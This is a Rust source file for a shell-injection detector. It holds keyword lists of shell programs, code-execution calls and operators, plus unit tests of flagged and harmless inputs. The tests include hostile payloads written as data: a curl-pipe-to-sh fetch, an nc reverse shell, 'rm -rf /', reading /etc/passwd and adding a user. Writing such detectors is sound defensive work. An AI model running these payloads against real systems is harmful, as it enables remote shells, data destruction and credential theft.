//! Shell injection: a value that ends one command and begins another, or that calls what only a program should call.
//!
//! Where a parameter is meant to hold a command, commands in a row are ordinary; one that begins with a separator is not.

use alloc::boxed::Box;

use portcullis_core::kind::Kind;

use super::Detector;
use crate::attacks::{Argument, Attack};

pub(super) const KIND: Kind<Box<dyn Detector>> = Kind {
    name: "shell_injection",
    doc: "Values that begin another command in a shell or call into a program, in arguments.",
    build: |_| Ok(Box::new(Attack { score })),
};

/// Programs that no word of a language is called like.
const PROGRAMS: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "curl",
    "wget",
    "uname",
    "bash",
    "sh",
    "zsh",
    "dash",
    "perl",
    "python",
    "python2",
    "python3",
    "ruby",
    "php",
    "nc",
    "ncat",
    "netcat",
    "nslookup",
    "dig",
    "ping",
    "systeminfo",
    "sysinfo",
    "chmod",
    "chown",
    "rm",
    "ls",
    "powershell",
    "pwsh",
    "cmd",
    "telnet",
    "ssh",
    "scp",
    "sleep",
    "id",
    "env",
    "printenv",
    "nmap",
    "useradd",
    "adduser",
    "tftp",
    "echo",
    "touch",
    "base64",
    "xxd",
    "awk",
    "sed",
    "ps",
    "pwd",
    "cat",
    "uptime",
    "hostname",
    "tasklist",
    "certutil",
    "bitsadmin",
    "wmic",
    "mkfifo",
    "socat",
    "lsof",
    "phpinfo",
    "printf",
    "reg",
    "rundll32",
    "regsvr32",
    "node",
    "java",
    "gcc",
    "tar",
    "openssl",
    "crontab",
    "systemctl",
    "shutdown",
    "reboot",
    "mknod",
    "busybox",
    "iptables",
    "mysql",
    "sqlite3",
    "ver",
    "timeout",
    "tcpdump",
    "setenv",
    "killall",
    "sudo",
    "su",
    "passwd",
    "getent",
    "ip",
    "route",
    "arp",
    "dir",
    "del",
    "rmdir",
    "mkdir",
    "cp",
    "mv",
    "ln",
    "grep",
    "egrep",
    "head",
    "tail",
    "nohup",
    "xterm",
    "export",
    "eval",
];

/// Programs that are also words: something that no sentence has must follow.
const WORDS: &[&str] = &[
    "type", "find", "net", "more", "less", "sort", "kill", "date", "who", "w", "set", "start", "at", "copy",
    "move", "test", "make", "mail", "exec", "system", "read", "time", "cut", "source", "where", "last",
    "host", "tree", "vol", "format", "ftp", "print", "query", "dd", "vi", "vim", "nano", "ed", "install",
    "apt", "yum", "git", "docker", "kubectl", "users", "groups", "finger", "wall",
];

/// Functions that run what they are given, in the languages that tools are written in.
const CALLS: &[&str] = &[
    "system(",
    "exec(",
    "eval(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "phpinfo(",
    "assert(",
    "pcntl_exec(",
    "os.system",
    "subprocess.",
    "runtime.getruntime",
    "processbuilder",
    "child_process",
    "__import__(",
    "require('child",
    "fromcharcode",
    "kernel.exec",
    "io.popen",
    "backticks(",
    "create_function(",
    "call_user_func",
    "base64_decode(",
    "file_get_contents(",
    "<?php",
    "<?=",
    "<!--#exec",
    "<!--#include",
    "<script",
    "onerror=",
    "javascript:",
    "%systemroot%",
    "%windir%",
    "${ifs}",
    "$ifs",
    "/dev/tcp/",
    "() {",
    "nc -e",
    "-e /bin/",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "powershell -",
    "printenv",
];

fn score(argument: &Argument<'_>) -> u16 {
    let text = argument.text();
    let command = argument.is_command();
    let best = calls(argument, command).max(operators(text, command));
    match best {
        best if command && best < 900 => best / 3,
        best if argument.is_prose() || argument.is_long() => best / 3,
        best => best,
    }
}

fn calls(argument: &Argument<'_>, command: bool) -> u16 {
    let text = argument.text();
    let trimmed = text.trim_ascii_start();
    let known = CALLS.iter().filter(|call| argument.has(call)).count();
    let shock = argument.has_any(&["() { :", "() {:", "() { _", "(){"]);
    let first = CALLS.iter().any(|call| trimmed.starts_with(call.as_bytes()));
    let php = argument.has_any(&["<?php", "<!--#exec", "<!--#include", "<script", "onerror="]);
    match known {
        _ if shock => 950,
        _ if php || (first && trimmed.contains(&b'(')) => 900,
        0 => 0,
        _ if command => 300,
        1 => 750,
        _ => 900,
    }
}

/// The operators of a shell, and whether a command follows them.
fn operators(text: &[u8], command: bool) -> u16 {
    let trimmed = trim(text);
    let mut best = 0;
    // Out of a quote or a parenthesis first.
    let quotes = trimmed.iter().take_while(|byte| matches!(byte, b'\'' | b'"' | b')' | b'}' | b' ')).count();
    let after = trimmed.get(quotes..).unwrap_or_default();
    let begins = matches!(after.first(), Some(b';' | b'|' | b'&' | b'`' | b'\n')) || after.starts_with(b"$(");
    if begins && follows(after) > 0 {
        best = 900;
    }
    if begins
        && !command
        && after.len() > 1
        && !matches!(after, [b'&' | b';' | b'|', next, ..] if next.is_ascii_whitespace() && quotes == 0 && follows(after) == 0)
    {
        best = best.max(600);
    }
    // Newlines and a command, as an escape or as itself.
    if let [b'\\', b'n' | b'r', rest @ ..] = trimmed
        && program(rest) > 0
    {
        best = 900;
    }
    let mut done = 0;
    for (at, byte) in text.iter().enumerate() {
        let rest = text.get(at..).unwrap_or_default();
        match byte {
            b'`' | b'$' => best = best.max(follows(rest)),
            // Of operators in a row the same follows.
            b';' | b'|' | b'&' | b'\n' if at >= done => {
                done = at + operators_in_a_row(rest);
                best = best.max(follows(rest));
            }
            _ => {}
        }
    }
    best
}

/// Bytes of operators, blanks and quotes that stand at the beginning.
fn operators_in_a_row(text: &[u8]) -> usize {
    let operator =
        |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b' ' | b'\t' | b'\n' | b'"' | b'\'' | b'`' | b'(');
    text.iter().position(|byte| !operator(byte)).unwrap_or(text.len())
}

fn trim(text: &[u8]) -> &[u8] {
    let start = text.iter().take_while(|byte| byte.is_ascii_whitespace() && **byte != b'\n').count();
    text.get(start..).unwrap_or_default()
}

/// How sure a command follows the operators that begin the text.
fn follows(text: &[u8]) -> u16 {
    match text {
        [b'$', b'(' | b'{', rest @ ..] => {
            if program(rest) > 0 || rest.first() == Some(&b'`') {
                850
            } else {
                0
            }
        }
        [b'$', ..] => 0,
        [b'`', rest @ ..] => {
            let closed = memchr::memchr(b'`', rest).is_some();
            if closed && program(rest) > 0 { 850 } else { 0 }
        }
        _ => program(text.get(operators_in_a_row(text)..).unwrap_or_default()),
    }
}

/// How sure a text begins with the name of a program.
fn program(text: &[u8]) -> u16 {
    let end = text
        .iter()
        .position(|byte| {
            !(byte.is_ascii_alphanumeric()
                || matches!(byte, b'_' | b'/' | b'.' | b'\\' | b'-' | b'$' | b'{' | b'}' | b'*' | b'?'))
        })
        .unwrap_or(text.len());
    let word = text.get(..end).unwrap_or_default();
    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default();
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    let is = |list: &[&str]| list.iter().any(|one| name == one.as_bytes());
    let after = text.get(end..).unwrap_or_default();
    let path =
        word.starts_with(b"/") && word.len() > 4 && word.iter().filter(|byte| **byte == b'/').count() >= 2;
    let shaped = || {
        let argument = after.trim_ascii_start();
        argument.first().is_none_or(|byte| {
            matches!(
                byte,
                b'/' | b'-' | b'.' | b'%' | b'"' | b'\'' | b'$' | b'~' | b'|' | b';' | b'&' | b'>' | b'<'
            ) || byte.is_ascii_digit()
        }) || memchr::memchr2(b'\\', b'/', argument.get(..24).unwrap_or(argument)).is_some()
            || memchr::memchr(b':', argument.get(..4).unwrap_or_default()).is_some()
            || (is(&["net"])
                && ["user", "localgroup", "view", "share", "start", "use"]
                    .iter()
                    .any(|one| argument.starts_with(one.as_bytes())))
    };
    let ends = after.first().is_none_or(|byte| !matches!(byte, b'=' | b':' | b',' | b'@'));
    match () {
        () if word.is_empty() || !ends => 0,
        () if is(PROGRAMS) => 850,
        () if is(WORDS) && shaped() => 750,
        () if path => 800,
        () if CALLS.iter().any(|call| call.len() > 4 && text.starts_with(call.as_bytes())) => 850,
        () => 0,
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{attacks, harmless};

    #[test]
    fn catches_values_that_begin_another_command() {
        for text in [
            "; ls -la",
            "| whoami",
            "&& curl http://x.example/a | sh",
            "main; rm -rf /",
            "$(id)",
            "`uname -a`",
            "x.png|nc 10.0.0.1 4444 -e /bin/sh",
            "\";id;\"",
            "a\n/usr/bin/id",
            "() { :;}; echo vulnerable",
            "& net user hacker /add",
            "%0a/bin/cat%20/etc/passwd",
            "system('id');",
            "<?php phpinfo(); ?>",
            "|| type C:\\boot.ini",
        ] {
            attacks("shell_injection", "filename", text);
        }
        for text in ["; sleep 15", "| id", "&& netstat -an", "\"; whoami", "$(curl http://x.example)"] {
            attacks("shell_injection", "command", text);
        }
    }

    #[test]
    fn leaves_prose_urls_and_commands_where_they_are_meant() {
        for text in [
            "https://example.com/?a=1&id=5&sort=asc",
            "Tom & Jerry; find them all",
            "AT&T | Verizon",
            "R&D",
            "cost: $5 (or more)",
            "a; b; c",
            "`code` and `more`",
            "read this; make notes; sort them",
        ] {
            harmless("shell_injection", "q", text);
        }
        for text in [
            "cat a.txt | grep x | head -1",
            "make && make test",
            "echo $(date) > out.txt; ls",
            "curl http://localhost | sh",
        ] {
            harmless("shell_injection", "command", text);
        }
    }
}
